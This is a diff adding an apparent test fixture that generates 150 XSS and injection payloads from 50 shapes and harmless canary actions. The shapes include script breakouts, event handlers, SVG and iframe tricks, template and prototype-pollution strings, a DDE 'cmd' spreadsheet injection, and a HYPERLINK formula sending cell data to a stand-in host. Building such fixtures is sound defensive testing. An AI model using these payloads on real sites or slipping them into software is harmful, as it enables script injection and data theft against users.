@@ -1,0 +1,61 @@
+// 150 texts that would run something in a page that took them for anything but text. Whatever runs gives itself away: a
+// dialog, the word CANARY on the console, an element whose id or name is `canary`, a request to somewhere else.
+const RUNS = ['alert(`canary`)', 'console.log(`CANARY`)', 'document.body.id=`canary`'] as const;
+
+const shapes: readonly ((run: string) => string)[] = [
+  (run) => `<script>${run}</script>`,
+  (run) => `</script><script>${run}</script>`,
+  (run) => `--></style></title></textarea><script>${run}</script>`,
+  (run) => `<ScRiPt >${run}</sCrIpT >`,
+  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
+  (run) => `<script src=data:text/javascript,${run}></script>`,
+  (run) => `<script src=//canary.example/x.js></script><i id=canary title="${run}">`,
+  (run) => `<script type=module>import("data:text/javascript,${run}")</script>`,
+  (run) => `<img src=x onerror=${run}>`,
+  (run) => `<img src="http://canary.example/?${run}" id=canary>`,
+  (run) => `"><img src=x onerror=${run}>`,
+  (run) => `'><img src=x onerror=${run}>`,
+  (run) => `" onmouseover=${run} onfocus=${run} autofocus tabindex=0 x="`,
+  (run) => `' onclick=${run} style='position:fixed;inset:0' x='`,
+  (run) => `\` onpointerover=${run} x=\``,
+  (run) => `<svg onload=${run}>`,
+  (run) => `<svg><script>${run}</script></svg>`,
+  (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
+  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  (run) => `<svg><a xlink:href="javascript:${run}"><text id=canary y=20>x</text></a></svg>`,
+  (run) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
+  (run) => `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
+  (run) => `</text></svg><svg onload=${run}>`,
+  (run) => `]]></text><script>${run}</script><![CDATA[`,
+  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
+  (run) => `<iframe srcdoc="<script>top.${run}</script>"></iframe>`,
+  (run) => `<iframe src="javascript:parent.${run}" name=canary>`,
+  (run) => `<object data="data:text/html,<script>${run}</script>" name=canary></object>`,
+  (run) => `<embed src="javascript:${run}">`,
+  (run) => `<details open ontoggle=${run}>`,
+  (run) => `<body onload=${run}><video src=x onerror=${run}>`,
+  (run) => `<input autofocus onfocus=${run} name=canary>`,
+  (run) => `<style>@import "//canary.example/${run}";*{animation:x}</style><b onanimationstart=${run}>`,
+  (run) => `<link rel=stylesheet href=//canary.example/x.css?${run} id=canary>`,
+  (run) => `<base href=//canary.example/><meta http-equiv=refresh content="0;url=javascript:${run}">`,
+  (run) => `<form id=canary name=fetch action=javascript:${run}><input name=attributes id=location></form>`,
+  (run) => `<a id=canary name=document href="javascript:${run}">x</a><a id=canary name=cookie>`,
+  (run) => `javascript:${run}`,
+  (run) => `java\tscript:${run}//https://example.org`,
+  (run) => `[x](javascript:${run}) ![x](x"onerror="${run})`,
+  (run) => `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{${run}}`,
+  (run) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"},"constructor":{"prototype":1}}`,
+  (run) => `"},"x":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}},{"`,
+  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e \\"\\`,
+  (run) => `&lt;img src=x onerror=${run}&gt;&#60;script&#62;${run}`,
+  (run) => `\u202e<img src=x onerror=${run}>\u2066\u200b\u200d\ufeff`,
+  (run) => `\u2028${run}\u2029</script>`,
+  (run) => `=HYPERLINK("http://canary.example/?"&A1,"${run}")`,
+  (run) => `+cmd|' /C ${run}'!A0`,
+  (run) => `@SUM(1+1)*${run},-1,"=1+1"`,
+];
+
+export const hostileMarkup: readonly string[] = shapes.flatMap((shape) => RUNS.map((run) => shape(run)));
+
+/** Names of properties that a careless table or store would take for its own. */
+export const prototypeNames = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'] as const;
